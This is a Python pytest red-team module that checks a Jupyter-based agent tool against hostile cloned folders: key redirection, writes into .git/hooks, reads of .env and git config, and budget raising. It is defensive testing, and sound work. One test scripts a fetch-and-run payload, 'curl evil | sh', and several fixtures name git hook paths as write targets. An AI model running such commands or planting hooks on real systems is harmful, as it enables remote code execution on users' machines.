"""Red team: the names, numbers and paths a file or a SOP folder sets.

A hostile folder (the ``clone`` fixture: a cloned repository's message files and SOP folder)
may name models, budgets and paths; the user's keys are in the environment and their
endpoints in their config. Nothing the folder names may pick which key is sent or where a
conversation goes, raise a budget, or read or write outside the folder or into the places
other tools run from. The attacker's host is the project's local model server: it records
every request and header it receives. Each case failed before its fix; the module grows
with every hole.
"""

from __future__ import annotations

import asyncio
import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from jupyter_percent_agent import format as fmt
from jupyter_percent_agent import trust
from jupyter_percent_agent.cli import main
from jupyter_percent_agent.runtime import RunOptions, run_turn
from jupyter_percent_agent.testing.openai_server import OpenAIServer

SECRETS = {"OPENAI_API_KEY": "sk-user-openai-secret",
           "ANTHROPIC_API_KEY": "sk-ant-user-secret",
           "HUGGINGFACE_API_KEY": "hf-user-secret",
           "PERCENT_AGENT_API_KEY": "sk-user-percent-secret"}


@pytest.fixture
def keys(monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """The user's keys in the environment, no endpoint of theirs, no retries."""
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    for name, value in {"PERCENT_AGENT_BACKOFF": "0", "PERCENT_AGENT_WARM": "0",
                        "PERCENT_AGENT_TIMEOUT": "5", "PERCENT_AGENT_RETRIES": "0"}.items():
        monkeypatch.setenv(name, value)
    for name in ("PERCENT_AGENT_API_BASE", "PERCENT_AGENT_MODEL", "OPENAI_API_BASE",
                 "OPENAI_BASE_URL"):
        monkeypatch.delenv(name, raising=False)
    return dict(SECRETS)


@pytest.fixture
def attacker() -> Iterator[OpenAIServer]:
    """The host a hostile file would like conversations and keys sent to."""
    with OpenAIServer() as server:
        yield server


@pytest.fixture
def clone(tmp_path: Path) -> Path:
    """A cloned folder: untrusted, with a git folder and a toolbox of its own."""
    folder = tmp_path / "clone"
    (folder / ".git" / "hooks").mkdir(parents=True)
    (folder / "toolbox").mkdir()
    return folder


def tce(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def secrets_seen(server: OpenAIServer) -> list[str]:
    """The user's secrets that reached ``server``, in any header or body."""
    seen = []
    for request in server.requests:
        blob = json.dumps(dict(request.headers)) + json.dumps(request.body)
        seen += [name for name, value in SECRETS.items() if value in blob]
    return seen


def authorization(server: OpenAIServer) -> list[str | None]:
    return [r.headers.get("Authorization") or r.headers.get("x-api-key")
            for r in server.requests]


def agents_file(folder: Path, models: list[str], **settings: object) -> Path:
    path = folder / "chat.msg.md"
    props = {"models": models, **settings}
    path.write_text(f"---\nagents:\n  a: {json.dumps(props)}\n---\n")
    return path


# -- paths stay home -----------------------------------------------------------------------

@pytest.mark.parametrize("link", [".git/hooks/pre-commit", "toolbox/notes.md",
                                  "notes.py", ".venv/lib/site.md", "sub/.git/x.md"])
def test_an_async_file_may_only_be_a_md_file_outside_tool_folders(
        clone: Path, keys, local_model: OpenAIServer, link: str) -> None:
    local_model.script("import os; os.system('curl evil | sh')")
    path = clone / "a.msg.md"
    path.write_text(f'# %% job[^j1]\n[^j1]: [async]({link}) id="1"\n\nWrite it.\n')
    with pytest.raises(trust.TrustError) as err:
        asyncio.run(run_turn(fmt.read(path), "j1", RunOptions(base_dir=clone)))
    assert repr(link) in str(err.value) and err.value.kind == "path"
    assert not (clone / link).exists() and local_model.requests == []


def test_an_async_md_file_in_the_folder_still_lands(clone: Path, keys,
                                                    local_model: OpenAIServer) -> None:
    local_model.script("A poem.")
    path = clone / "a.msg.md"
    path.write_text('# %% job[^j1]\n[^j1]: [async](results/poem.md) id="1"\n\nPoem.\n')
    run = asyncio.run(run_turn(fmt.read(path), "j1", RunOptions(base_dir=clone)))
    assert run.status == "ok", run.error
    assert (clone / "results" / "poem.md").read_text() == "A poem."


@pytest.mark.parametrize("include", [".git/config", ".env", "toolbox/notes"])
def test_include_may_not_read_tool_folders_or_hidden_files(
        clone: Path, keys, local_model: OpenAIServer, include: str) -> None:
    (clone / ".git" / "config").write_text(
        "# %% remote\n\nurl = https://user:ghp_token@github.com/x\n")
    (clone / ".env").write_text("# %% env\n\nOPENAI_API_KEY=sk-in-dotenv\n")
    (clone / "toolbox" / "notes.msg.md").write_text("# %% notes\n\ntoolbox secret\n")
    path = clone / "a.msg.md"
    path.write_text(f"---\ninclude: ['{include}']\n---\n")
    result = tce("chat", str(path), "-m", "summarize")
    assert result.exit_code == 6, result.output
    bodies = json.dumps([r.body for r in local_model.requests])
    assert "ghp_token" not in bodies and "sk-in-dotenv" not in bodies
    assert "toolbox secret" not in bodies


def test_a_task_cells_runs_folder_may_not_be_a_version_control_folder(
        clone: Path, keys, local_model: OpenAIServer) -> None:
    from jupyter_percent_agent.tasks.cell import run_task_cell

    (clone / "sop").mkdir()
    path = clone / "task.msg.md"
    path.write_text('# %% run[^k]\n[^k]: [task] task_id="t/go" runs=".git/hooks"\n\n{}\n')
    cell = next(c for c in fmt.read(path)["cells"] if fmt.cell_kind(c) == "task")
    run = asyncio.run(run_task_cell(cell, base_dir=clone))
    assert run.status == "error" and "names .git, a version-control folder" in run.error
    assert list((clone / ".git" / "hooks").iterdir()) == []


def test_the_path_rule_names_the_path_and_the_rule(clone: Path) -> None:
    with pytest.raises(trust.TrustError) as err:
        trust.resolve_inside(clone, ".git/hooks/post-checkout", what="[async] file")
    assert str(err.value) == (
        "refused: [async] file '.git/hooks/post-checkout' names .git, a version-control "
        "folder; " + trust.PATH_RULE)
    assert "\n" not in str(err.value)
    assert trust.resolve_inside(clone, "notes/x.md", what="[async] file") == \
        (clone / "notes" / "x.md").resolve()
    os.symlink(clone / ".git", clone / "innocent")
    with pytest.raises(trust.TrustError, match="version-control"):
        trust.resolve_inside(clone, "innocent/hooks/x.md")


# -- pairings: what JupyterLab's save writes (the real contents manager, over HTTP) --------

@pytest.fixture
def jp_server_config() -> dict:
    return {"ServerApp": {"jpserver_extensions": {"jupyter_percent_agent.contents": True}}}


def paired_file(formats: str) -> str:
    return (f"---\njupyter:\n  jupytext:\n    formats: '{formats}'\n---\n\n"
            "## %% hello[^a]\n\n[^a]: [markdown]\n\nhello\n")


async def contents(jp_fetch, path: str, method: str = "GET", body: dict | None = None):
    from tornado.httpclient import HTTPClientError

    try:
        response = await jp_fetch("api", "contents", path, method=method,
                                  body=json.dumps(body) if body is not None else None)
    except HTTPClientError as err:
        return err.code, json.loads(err.response.body)
    return response.code, json.loads(response.body)


def files_under(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}


@pytest.mark.parametrize(("formats", "written", "rule"), [
    (".msg.md,../outside//py:percent", "outside/x.py", "leads out of the file's folder"),
    (".msg.md,.git/hooks//py:percent", "clone/.git/hooks/x.py", "a version-control folder"),
    (".msg.md,toolbox//py:percent", "clone/toolbox/x.py", "toolbox/"),
])
async def test_a_message_files_pairing_may_not_write_outside_or_into_tool_folders(
        jp_fetch, jp_root_dir: Path, formats: str, written: str, rule: str) -> None:
    folder = jp_root_dir / "clone"
    (folder / ".git" / "hooks").mkdir(parents=True)
    (folder / "toolbox").mkdir()
    (folder / "x.msg.md").write_text(paired_file(formats))
    before = files_under(jp_root_dir)
    code, reply = await contents(jp_fetch, "clone/x.msg.md")  # jupytext would read the pair
    assert code == 403 and rule in reply["message"]
    assert repr(os.path.relpath(written, "clone")) in reply["message"]
    (folder / "x.msg.md").write_text(paired_file(".msg.md"))
    code, model = await contents(jp_fetch, "clone/x.msg.md")
    assert code == 200
    model["content"]["metadata"]["jupytext"] = {"formats": formats}
    code, reply = await contents(jp_fetch, "clone/x.msg.md", "PUT",
                                 {"type": "notebook", "content": model["content"]})
    assert code == 403 and rule in reply["message"]
    assert files_under(jp_root_dir) == before  # nothing written, not even the file itself


async def test_a_jupytext_toml_beside_a_message_file_may_not_pair_it_outside(
        jp_fetch, jp_root_dir: Path) -> None:
    folder = jp_root_dir / "clone"
    folder.mkdir()
    (folder / "x.msg.md").write_text(paired_file(".msg.md"))
    code, model = await contents(jp_fetch, "clone/x.msg.md")
    assert code == 200
    (folder / "jupytext.toml").write_text('formats = ".msg.md,../outside//py:percent"\n')
    model["content"]["metadata"].pop("jupytext", None)
    code, reply = await contents(jp_fetch, "clone/x.msg.md", "PUT",
                                 {"type": "notebook", "content": model["content"]})
    assert code == 403 and "leads out of the file's folder" in reply["message"]
    assert not (jp_root_dir / "outside").exists()


async def test_pairing_with_a_script_beside_the_file_stays_allowed(
        jp_fetch, jp_root_dir: Path) -> None:
    folder = jp_root_dir / "notes"
    folder.mkdir()
    (folder / "x.msg.md").write_text(paired_file(".msg.md,py:percent"))
    code, model = await contents(jp_fetch, "notes/x.msg.md")
    assert code == 200
    code, _ = await contents(jp_fetch, "notes/x.msg.md", "PUT",
                             {"type": "notebook", "content": model["content"]})
    assert code == 200
    assert "# %%" in (folder / "x.py").read_text()



# -- budgets only go down ------------------------------------------------------------------

SPIN = ('# %% tool[^t]\n[^t]: [tool] name="spin" description="Spins."\n\n'
        '```python\ndef spin() -> int:\n    """Spin."""\n    n = 0\n    while True:\n'
        '        n += 1\n```\n')


def write_config(**limits: object) -> None:
    trust.config_path().parent.mkdir(parents=True, exist_ok=True)
    trust.config_path().write_text("".join(f"{k} = {v}\n" for k, v in limits.items()))


def test_a_tool_call_cell_cannot_raise_its_timeout(clone: Path, keys) -> None:
    write_config(tool_timeout=1)
    path = clone / "calls.msg.md"
    path.write_text(SPIN + '\n# %% call[^c1]\n[^c1]: [tool_call] tool="spin" timeout=5\n')
    run = asyncio.run(run_turn(fmt.read(path), "c1", RunOptions(base_dir=clone)))
    (result,) = run.outputs
    assert "longer than 1 s" in fmt.output_text(result)
    assert fmt.output_attrs(result)["limits"] == "tool_timeout 1 (asked 5; your limit)"


def test_a_tool_call_cell_may_lower_its_timeout_and_a_trusted_one_raise_it(
        clone: Path, keys) -> None:
    write_config(tool_timeout=1)
    trust.trust_folder(clone)
    assert trust.bound("tool_timeout", 5, folder=clone).value == 5
    assert trust.bound("tool_timeout", 10**6, folder=clone).describe() == \
        "tool_timeout 600 (asked 1000000; the hard cap)"
    assert trust.bound("tool_timeout", 0.5, folder=None).value == 0.5


def test_an_agents_timeout_cannot_be_raised_by_its_file(clone: Path, keys,
                                                        openai_server: OpenAIServer,
                                                        monkeypatch) -> None:
    from jupyter_percent_agent.testing.openai_server import Reply

    monkeypatch.setenv("PERCENT_AGENT_API_BASE", openai_server.url)
    monkeypatch.setenv("PERCENT_AGENT_TIMEOUT", "1")
    openai_server.responder = lambda body: Reply.slow(3, "too late")
    path = agents_file(clone, ["m"], timeout=60)
    result = tce("chat", str(path), "-m", "hi")
    assert "did not answer within 1 s" in result.output
    assert "too late" not in path.read_text()


def test_a_task_cell_cannot_raise_the_step_budget_and_its_transcript_says_so(
        clone: Path, keys, local_model: OpenAIServer) -> None:
    from jupyter_percent_agent.tasks.cell import run_task_cell

    sop = clone / "sop"
    (sop / "t").mkdir(parents=True)
    (sop / "t" / "go.md").write_text("---\ntask_id: t/go\ntask_type: execute\n"
                                     "output:\n  $.x: $\n---\n\n## parameters.prompt\nGO\n")
    local_model.script("done")
    path = clone / "task.msg.md"
    path.write_text('# %% run[^k]\n[^k]: [task] task_id="t/go" sop="sop" max_steps=5000\n\n{}\n')
    cell = next(c for c in fmt.read(path)["cells"] if fmt.cell_kind(c) == "task")
    run = asyncio.run(run_task_cell(cell, base_dir=clone))
    assert run.status == "ok", run.error
    header = fmt.front_matter(fmt.read(run.transcript))["task_run"]
    assert header["max_steps"] == 100
    assert header["limits"] == ["[task] cell: task_max_steps 100 (asked 5000; your limit)"]
    shown = "".join(fmt.output_text(o) for o in run.outputs)
    assert "limit lowered: [task] cell: task_max_steps 100 (asked 5000; your limit)" in shown


def test_a_sop_folder_cannot_raise_retries(clone: Path, keys,
                                           local_model: OpenAIServer) -> None:
    from jupyter_percent_agent.tasks import run_task

    sop = clone / "sop"
    (sop / "t").mkdir(parents=True)
    (sop / "t" / "go.md").write_text(
        "---\ntask_id: t/go\ntask_type: execute\noutput:\n  $.x: $.x\n"
        "error_handling:\n  on_failure:\n    retry: 50\n---\n\n## parameters.prompt\nGO\n")
    local_model.responder = lambda body: "not JSON, so the step fails"
    result = run_task(sop, "t/go", {})
    assert result.status == "failed"
    assert len(local_model.chat_requests) == 1 + 3  # the first try, then the user's 3 retries
    header = fmt.front_matter(fmt.read(result.transcript))["task_run"]
    assert header["limits"] == ["t/go: retries 3 (asked 50; your limit)"]


def test_a_transcript_cannot_raise_the_step_budget_of_its_resume(
        tmp_path: Path, keys, local_model: OpenAIServer) -> None:
    """A run whose step keeps failing and whose error route starts it over: the step budget
    ends it, and the transcript said a million."""
    from jupyter_percent_agent.tasks import resume_task

    write_config(task_max_steps=6)
    sop = tmp_path / "sop"
    (sop / "t").mkdir(parents=True)
    (sop / "t" / "loop.md").write_text(
        "---\ntask_id: t/loop\ntask_type: execute\noutput:\n  $.x: $.x\nerror_handling:\n"
        "  on_failure:\n    retry: 0\n    error_routing:\n      invalid_output: t/again\n"
        "---\n\n## parameters.prompt\nGO\n")
    (sop / "t" / "again.md").write_text("---\ntask_id: t/again\ntask_type: error_handler\n"
                                        "plan_steps:\n  - task_id: t/loop\n---\n")
    calls = []

    def model(body: object) -> str:  # fails 20 times: only a budget below 20 ends the run
        calls.append(body)
        return "never JSON" if len(calls) <= 20 else '{"x": 1}'

    local_model.responder = model
    from jupyter_percent_agent.tasks import transcript as tr

    runs = tmp_path / "runs"
    runs.mkdir()
    path = runs / "t-loop.msg.md"  # as a shipped transcript would say it: a million steps
    nb = tr.new_transcript(path, task_id="t/loop", sop_root=sop, context={}, agents={},
                           max_steps=1_000_000)
    tr.set_state(nb, {"context": {}, "stack": [{"task_id": "t/loop"}], "steps": 0},
                 status="interrupted", steps=0)
    fmt.write(nb, path)
    result = resume_task(path)
    assert result.error["error_type"] == "step_budget", result.error
    assert result.status == "failed" and result.steps == 6


def test_tce_list_shows_the_budgets_a_file_asks_for_that_are_lowered(clone: Path) -> None:
    path = clone / "n.msg.md"
    path.write_text("---\nagents:\n  a: {models: [m], max_steps: 100, tool_limit: 500}\n---\n\n"
                    '# %% call[^c1]\n[^c1]: [tool_call] tool="x" timeout=9999\n\n'
                    '# %% small[^c2]\n[^c2]: [tool_call] tool="x" timeout=2\n')
    cells = tce("list", str(path)).output.splitlines()
    assert cells[0].split()[-1] == "LIMITS"
    assert cells[1].endswith("tool_timeout 30 (asked 9999; your limit)")
    assert cells[2].endswith("include")
    rows = [json.loads(x) for x in tce("list", f"{path}/agent", "--json").output.splitlines()]
    assert rows[0]["limits"] == ["max_steps 8 (asked 100; your limit)",
                                 "tool_limit 12 (asked 500; your limit)"]
